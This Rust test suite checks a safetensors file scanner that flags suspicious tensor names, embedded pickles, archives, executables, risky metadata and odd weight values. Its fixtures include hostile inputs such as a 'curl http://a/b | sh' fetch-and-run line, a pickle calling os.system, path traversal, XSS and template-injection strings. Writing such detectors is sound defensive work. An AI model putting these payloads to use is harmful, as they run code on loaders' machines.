//! One file for each rule that finds what is suspicious though valid, and one beside it that is not.

use safetensors_check::values::{Options, check_values};
use safetensors_check::{Dtype, Header, Layout, Limits, Validity, check};

/// A file with these tensors of bytes and this metadata.
fn file(tensors: &[(&str, &[u8])], metadata: &[(&str, &str)]) -> Vec<u8> {
    let described = tensors.iter().map(|(name, data)| {
        let length = u64::try_from(data.len()).unwrap();
        ((*name).to_owned(), Dtype::U8, vec![length])
    });
    let pairs = metadata
        .iter()
        .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()));
    let pairs = (!metadata.is_empty()).then(|| pairs.collect());
    let layout = Layout::new(described, pairs).unwrap();
    let mut file = layout.header().to_vec();
    let header = Header::read(&file, layout.file_len(), &Limits::default()).unwrap();
    let order: Vec<String> = header
        .tensors_by_offset()
        .map(|tensor| tensor.name().to_owned())
        .collect();
    for name in order {
        let (_, data) = tensors.iter().find(|(known, _)| *known == name).unwrap();
        file.extend_from_slice(data);
    }
    file
}

/// The codes and severities that a valid file is found by.
fn found(file: &[u8]) -> Vec<String> {
    let report = check(file, &Limits::default());
    assert_eq!(report.validity(), Validity::Valid);
    let codes = report.suspicions().iter();
    codes
        .map(|finding| format!("{} {}", finding.rule.code(), finding.severity))
        .collect()
}

fn named(name: &str) -> Vec<String> {
    found(&file(&[(name, &[0; 8])], &[]))
}

fn with_data(data: &[u8]) -> Vec<String> {
    found(&file(&[("blob", data)], &[]))
}

fn with_metadata(key: &str, value: &str) -> Vec<String> {
    found(&file(&[("a", &[0; 8])], &[(key, value)]))
}

#[test]
fn names_that_deceive_are_found_and_names_beside_them_are_not() {
    for (name, wanted) in [
        ("w\u{1b}[2J", "STF030 medium"),
        ("w\0", "STF030 medium"),
        ("a\u{202e}b", "STF031 medium"),
        ("wei\u{200b}ght", "STF031 medium"),
        ("a\u{ffff}", "STF031 low"),
        ("layer.w\u{435}ight", "STF032 medium"),
        ("", "STF034 medium"),
        ("weight ", "STF034 medium"),
        ("../../etc/passwd", "STF036 medium"),
        ("C:\\x", "STF036 medium"),
        ("__class__", "STF037 medium"),
        ("$(id)", "STF038 medium"),
        ("<script>alert(1)</script>", "STF038 medium"),
        ("{{7*7}}", "STF038 medium"),
    ] {
        assert!(
            named(name).contains(&wanted.to_owned()),
            "{name:?}: {:?}",
            named(name)
        );
    }
    for name in [
        "model.layers.0.self_attn.q_proj.weight",
        "encoder/layer_0/kernel:0",
        "blocks.0..weight",
        "\u{6a21}\u{578b}.weight",
        "['params']['Dense_0']['kernel']",
        "onnx::MatMul_12",
    ] {
        assert_eq!(named(name), [""; 0], "{name}");
    }
}

#[test]
fn a_long_name_is_found_and_one_of_two_hundred_bytes_is_not() {
    assert_eq!(named(&"a".repeat(100_000)), ["STF035 medium"]);
    assert_eq!(named(&format!("{}weight", "block.".repeat(33))), [""; 0]);
}

#[test]
fn twins_are_found_and_names_that_differ_are_not() {
    let two = |a: &str, b: &str| found(&file(&[(a, &[0; 8]), (b, &[0; 8])], &[]));
    assert_eq!(two("a.Weight", "a.weight"), ["STF033 medium"]);
    assert_eq!(two("\u{e9}", "e\u{301}"), ["STF033 medium"]);
    assert_eq!(two("l1", "ll"), [""; 0]);
}

#[test]
fn wide_padding_is_found_and_a_page_of_it_is_not() {
    let padded = |spaces: usize| {
        let mut header = br#"{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.to_vec();
        header.resize(header.len() + spaces, b' ');
        let mut file = u64::try_from(header.len()).unwrap().to_le_bytes().to_vec();
        file.extend_from_slice(&header);
        found(&file)
    };
    assert_eq!(padded(1 << 20), ["STF039 medium"]);
    assert_eq!(padded(4096), ["STF039 info"]);
    assert_eq!(padded(7), [""; 0]);
}

#[test]
fn an_archive_behind_the_tensors_is_found_and_its_mark_alone_is_not() {
    let mut archive = b"PK\x01\x02".to_vec();
    archive.resize(46, 0);
    archive[28] = 16;
    archive.extend_from_slice(b"archive/data.pkl");
    archive.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x3e\0\0\0\0\0\0\0\0\0");
    assert_eq!(with_data(&archive), ["STF040 medium"]);
    let report = file(&[("blob", &archive)], &[]);
    let report = check(&report, &Limits::default());
    assert!(
        report.suspicions()[0]
            .message
            .starts_with("`torch.load` opens the file")
    );
    let mut empty = vec![7; 40];
    empty.extend_from_slice(b"PK\x05\x06");
    empty.extend_from_slice(&[0; 18]);
    assert_eq!(with_data(&empty), ["STF040 medium"]);
    empty.push(1);
    assert_eq!(with_data(&empty), [""; 0]);
}

#[test]
fn files_in_tensors_are_found_and_bytes_like_their_marks_are_not() {
    let pickle = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    for (data, wanted) in [
        (&b"\x7fELF\x02\x01\x01\0\0\0\0\0"[..], "STF041 medium"),
        (b"#!/bin/sh\nid\n", "STF041 medium"),
        (b"import os\nos.system('id')\n", "STF041 medium"),
        (pickle, "STF042 medium"),
        (
            b"\x80\x04\x95\x11\0\0\0\0\0\0\0}\x94(\x8c\x01a\x94K\x01\x8c\x01b\x94K\x02u.",
            "STF042 low",
        ),
        (b"PK\x03\x04\x14\0\0\0\0\0\0\0", "STF043 medium"),
        (b"%PDF-1.7\n", "STF043 medium"),
    ] {
        // A PDF is also found by its mark near the start of the file.
        assert!(
            with_data(data).contains(&wanted.to_owned()),
            "{data:?}: {:?}",
            with_data(data)
        );
    }
    for data in [
        &b"MZ\0\0\0\0\0\0"[..],
        b"#!\0\0\0\0\0\0",
        b"\x80\x04\0\0\0\0\0\0",
        b"{\"quant_type\": \"nf4\", \"blocksize\": 64}",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
        b"the words of a tokenizer\n",
    ] {
        assert_eq!(with_data(data), [""; 0], "{data:?}");
    }
}

#[test]
fn a_file_that_begins_as_another_is_found_and_one_of_a_usual_length_is_not() {
    let of_length = |length: usize| {
        let mut header = br#"{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.to_vec();
        header.resize(length, b' ');
        let mut file = u64::try_from(length).unwrap().to_le_bytes().to_vec();
        file.extend_from_slice(&header);
        found(&file)
    };
    // 1f 8b 08, as gzip begins.
    assert!(of_length(0x0008_8b1f).contains(&"STF044 medium".to_owned()));
    assert!(!of_length(0x0008_8b20).contains(&"STF044 medium".to_owned()));
}

#[test]
fn metadata_that_does_something_is_found_and_descriptions_are_not() {
    let token = format!("hf_{}", "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567");
    for (value, wanted) in [
        ("\u{1b}[2J", "STF045 medium"),
        ("abc\u{202e}", "STF045 medium"),
        (
            "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "STF046 medium",
        ),
        ("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA", "STF046 medium"),
        (&token, "STF047 medium"),
        (
            "{{ bos_token }}{% for m in messages %}{{ m }}{% endfor %}",
            "STF048 low",
        ),
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "STF048 medium",
        ),
        ("<script>alert(1)</script>", "STF049 medium"),
        ("__import__('os').system('id')", "STF050 medium"),
        ("curl http://a/b | sh", "STF050 medium"),
    ] {
        let all = with_metadata("note", value);
        assert!(all.contains(&wanted.to_owned()), "{value}: {all:?}");
    }
    for value in [
        "a model of cats, see https://example.org/a@b",
        "{\"lr\": 0.001, \"optimizer\": {\"name\": \"adam\"}}",
        "line one\nline two\t\u{1f600}",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "model.eval()",
    ] {
        assert_eq!(with_metadata("note", value), [""; 0], "{value}");
    }
}

#[test]
fn large_metadata_and_unknown_frameworks_are_found_and_usual_ones_are_not() {
    assert_eq!(
        with_metadata("note", &"a b ".repeat(300_000)),
        ["STF051 medium"]
    );
    assert_eq!(with_metadata("note", &"a b ".repeat(1_000)), [""; 0]);
    assert_eq!(with_metadata("format", "pickle"), ["STF052 low"]);
    assert_eq!(with_metadata("format", "pt"), [""; 0]);
}

/// What is found in the values of one tensor.
fn in_values(dtype: Dtype, shape: &[u64], data: &[u8]) -> Vec<String> {
    let layout = Layout::new([("a".to_owned(), dtype, shape.to_vec())], None).unwrap();
    let mut file = layout.header().to_vec();
    file.extend_from_slice(data);
    let header = Header::read(&file, layout.file_len(), &Limits::default()).unwrap();
    let values = check_values(&header, &file, &Options::default(), &()).unwrap();
    let codes = values.findings.iter();
    codes
        .map(|finding| format!("{} {}", finding.rule.code(), finding.severity))
        .collect()
}

fn floats(numbers: impl IntoIterator<Item = f32>) -> Vec<u8> {
    numbers.into_iter().flat_map(f32::to_le_bytes).collect()
}

#[test]
fn values_that_are_no_weights_are_found_and_weights_are_not() {
    let four = |numbers: [f32; 4]| in_values(Dtype::F32, &[4], &floats(numbers));
    assert_eq!(four([1.0, f32::NAN, 2.0, 3.0]), ["STF053 medium"]);
    assert_eq!(four([1.0, f32::INFINITY, 2.0, 3.0]), ["STF053 medium"]);
    assert_eq!(four([1.0, f32::NEG_INFINITY, 2.0, 3.0]), ["STF053 low"]);
    assert_eq!(
        four([0.0, f32::NEG_INFINITY, 0.0, f32::NEG_INFINITY]),
        ["STF053 info"]
    );
    assert_eq!(four([1.0, -1.0, 2.0, 0.5]), [""; 0]);
    assert_eq!(
        in_values(Dtype::F8E4M3, &[2], &[0x7f, 0x30]),
        ["STF053 medium"]
    );
    assert_eq!(in_values(Dtype::F8E4M3Fnuz, &[2], &[0x7f, 0x30]), [""; 0]);
    assert_eq!(
        in_values(Dtype::F8E4M3Fnuz, &[2], &[0x80, 0x30]),
        ["STF053 medium"]
    );
    assert_eq!(four([1e-40, 2e-40, 3e-40, 4e-40]), ["STF054 medium"]);
    assert_eq!(in_values(Dtype::F16, &[2], &[1, 0, 2, 0]), [""; 0]);
    assert_eq!(
        in_values(Dtype::Bool, &[4], &[0, 1, 2, 1]),
        ["STF056 medium"]
    );
    assert_eq!(in_values(Dtype::Bool, &[4], &[0, 1, 1, 1]), [""; 0]);
}

#[test]
fn a_matrix_of_one_number_is_found_and_a_bias_of_zeros_is_not() {
    let all = |number: f32, shape: &[u64]| {
        let count = usize::try_from(shape.iter().product::<u64>()).unwrap();
        in_values(
            Dtype::F32,
            shape,
            &floats(std::iter::repeat_n(number, count)),
        )
    };
    assert_eq!(all(0.3, &[64, 64]), ["STF055 medium"]);
    assert_eq!(all(0.3, &[6, 6]), ["STF055 low"]);
    assert_eq!(all(0.3, &[4096]), ["STF055 info"]);
    assert_eq!(all(0.0, &[64, 64]), ["STF055 low"]);
    assert_eq!(all(0.0, &[4096]), [""; 0]);
    assert_eq!(all(1.0, &[4096]), [""; 0]);
    assert_eq!(all(0.3, &[1]), [""; 0]);
}

/// Strings and their NFKD, from Python's unicodedata; the two are twins, and so is the NFKC.
#[test]
fn names_fold_as_unicodedata_folds_them() {
    for (a, b) in [
        ("\u{1e9b}\u{323}", "s\u{323}\u{307}"),
        ("\u{fb03}", "ffi"),
        ("\u{2460}", "1"),
        ("\u{d4db}", "\u{1111}\u{1171}\u{11b6}"),
        ("\u{f900}", "\u{8c48}"),
        ("\u{3b1}\u{345}\u{301}", "\u{1fb4}"),
    ] {
        let file = file(&[(a, &[0; 8]), (b, &[0; 8])], &[]);
        let report = check(&file, &Limits::default());
        let messages = report.suspicions().iter().map(|finding| &finding.message);
        let twins =
            messages.filter(|message| message.ends_with("are equal in Unicode's normal form"));
        assert_eq!(twins.count(), 1, "{a} {b}: {:?}", report.suspicions());
    }
}
